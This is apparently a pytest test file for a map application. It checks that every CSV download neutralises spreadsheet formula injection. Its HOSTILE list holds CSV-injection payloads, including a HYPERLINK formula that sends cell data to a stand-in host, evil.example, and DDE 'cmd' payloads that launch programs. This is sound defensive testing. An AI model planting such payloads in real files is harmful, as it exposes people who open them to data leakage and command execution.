"""CSV formula injection (issue 19.4): every CSV the app writes neutralises spreadsheet formulas.

A cell that starts with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return is run as a formula
by Excel/WPS (``=HYPERLINK(…)``, ``=cmd|' /C calc'!A0``, ``@SUM(…)``).  OWASP's advice: prefix such
text with ``'``.  The tests below write hostile values through every CSV download the app offers
and read the bytes back with :mod:`csv`, as a spreadsheet would.
"""

from __future__ import annotations

import csv
import io
import json
import re
import tomllib
from pathlib import Path

import geopandas as gpd
import pytest
from shapely.geometry import Point

from lianghu_map.export import audit_export, csv_bytes, export_layer, neutralise_formula
from lianghu_map.store import AuditEntry

ROOT = Path(__file__).resolve().parents[1]
HOSTILE = ["=HYPERLINK(\"http://evil.example/\"&A1,\"点我\")", "+1+cmd|' /C calc'!A0",
           "-2+3+cmd|' /C notepad'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1",
           "=1+1", "=公式"]
HARMLESS = ["西太湖", "-12.5", "+3", "1e-3", "a=b", "'already quoted", "", "—破折号"]
TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
NUMBER = re.compile(r"[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?")


def _cells(data: bytes) -> list[list[str]]:
    text = data.decode("utf-8-sig")
    return list(csv.reader(io.StringIO(text, newline="")))


def _assert_no_formula(data: bytes) -> None:
    for r, row in enumerate(_cells(data)):
        for c, cell in enumerate(row):
            assert not (cell.startswith(TRIGGERS) and not NUMBER.fullmatch(cell)), \
                f"row {r} column {c} would run as a formula: {cell!r}"


def _hostile_layer() -> gpd.GeoDataFrame:
    values = HOSTILE + HARMLESS
    return gpd.GeoDataFrame(
        {"name": values, "=HYPERLINK(\"x\")": ["v"] * len(values),
         "count": list(range(-3, len(values) - 3)),
         "note": ["@x"] * len(values)},
        geometry=[Point(119.85 + i / 1000, 31.7) for i in range(len(values))], crs=4326)


def _audit_entries() -> list[AuditEntry]:
    return [AuditEntry(at="2026-12-01T00:00:00+00:00", user=h, action="create",
                       layer_id="abc", title=h, version=1, sha256="0" * 64,
                       original_name=f"{h}.geojson", feature_count=1, links=0)
            for h in HOSTILE]


# Every CSV download of the app, by the function that writes its bytes:
# - the layer download (Upload page's stored layers, Map exports, Present's data export, the
#   attribute table's "download rows"): export_layer(…, "csv")
# - the audit log download: audit_export(…, "csv")
PRODUCERS = {
    "layer": lambda: export_layer(_hostile_layer(), "csv"),
    "audit": lambda: audit_export(_audit_entries(), "csv"),
}


@pytest.mark.parametrize("producer", sorted(PRODUCERS))
def test_every_csv_download_neutralises_formulas(producer):
    data = PRODUCERS[producer]()
    assert data.startswith(b"\xef\xbb\xbf")  # still UTF-8 with a BOM for Excel
    _assert_no_formula(data)
    text = data.decode("utf-8-sig")
    assert "'=HYPERLINK" in text and "'@SUM" in text  # neutralised, not dropped


def test_layer_csv_keeps_harmless_values_and_numbers_exactly():
    rows = _cells(export_layer(_hostile_layer(), "csv"))
    header, body = rows[0], rows[1:]
    names = [r[header.index("name")] for r in body]
    assert names[len(HOSTILE):] == HARMLESS  # "-12.5" is a number, "a=b" does not start a formula
    assert names[:len(HOSTILE)] == ["'" + h for h in HOSTILE]
    assert [int(r[header.index("count")]) for r in body] == list(range(-3, len(body) - 3))
    assert "'=HYPERLINK(\"x\")" in header  # a hostile column name too
    assert all(r[header.index("wkt")].startswith("POINT") for r in body)


def test_geojson_and_geopackage_downloads_stay_exact():
    layer = _hostile_layer()
    doc = json.loads(export_layer(layer, "geojson"))
    assert [f["properties"]["name"] for f in doc["features"]] == HOSTILE + HARMLESS
    import pyogrio

    back = pyogrio.read_dataframe(io.BytesIO(export_layer(layer, "gpkg")))
    assert list(back["name"]) == HOSTILE + HARMLESS


@pytest.mark.parametrize(("value", "expected"), [
    ("=1+1", "'=1+1"), ("-1", "-1"), ("-1-1", "'-1-1"), ("+86 519", "'+86 519"),
    ("@a", "'@a"), ("\t1", "'\t1"), ("x", "x"), (3, 3), (None, None), (-2.5, -2.5)])
def test_neutralise_formula(value, expected):
    assert neutralise_formula(value) == expected


def test_no_csv_is_written_outside_csv_bytes():
    """A CSV written anywhere else would skip the neutralisation: ``to_csv`` appears once."""
    sources = [*(ROOT / "src" / "lianghu_map").rglob("*.py"), *(ROOT / "pages").glob("*.py"),
               ROOT / "app.py"]
    calls = [(p.name, n) for p in sources
             for n, line in enumerate(p.read_text(encoding="utf-8").splitlines(), 1)
             if ".to_csv(" in line or "csv.writer(" in line]
    assert calls == [("export.py", next(
        n for n, line in enumerate((ROOT / "src/lianghu_map/export.py").read_text(
            encoding="utf-8").splitlines(), 1) if ".to_csv(" in line))]


def test_streamlits_own_csv_export_is_off():
    """st.dataframe's toolbar writes CSV in the browser without neutralising formulas: the app
    turns it off (client.disableDataExport) and offers its own downloads instead."""
    config = tomllib.loads((ROOT / ".streamlit" / "config.toml").read_text(encoding="utf-8"))
    assert config["client"]["disableDataExport"] is True


def test_csv_bytes_with_duplicate_headers():
    import pandas as pd

    frame = pd.DataFrame([["=a", "=b"]], columns=["x", "x"])
    rows = _cells(csv_bytes(frame))
    assert rows == [["x", "x"], ["'=a", "'=b"]]


@pytest.mark.parametrize("inner", ["备注\r=1+1", "备注\n@SUM(1)", "备注\r\n-1-1"])
def test_a_line_break_inside_a_cell_cannot_start_a_formula(inner):
    """A lone "\\r" left unquoted (pandas' default "\\n" line ending) splits the row in a
    spreadsheet, and what follows it starts a cell of its own: every cell with a line break
    is quoted, so it stays one cell."""
    layer = gpd.GeoDataFrame({"note": [inner]}, geometry=[Point(119.9, 31.7)], crs=4326)
    data = export_layer(layer, "csv")
    _assert_no_formula(data)
    rows = _cells(data)
    assert len(rows) == 2 and rows[1][rows[0].index("note")] == inner
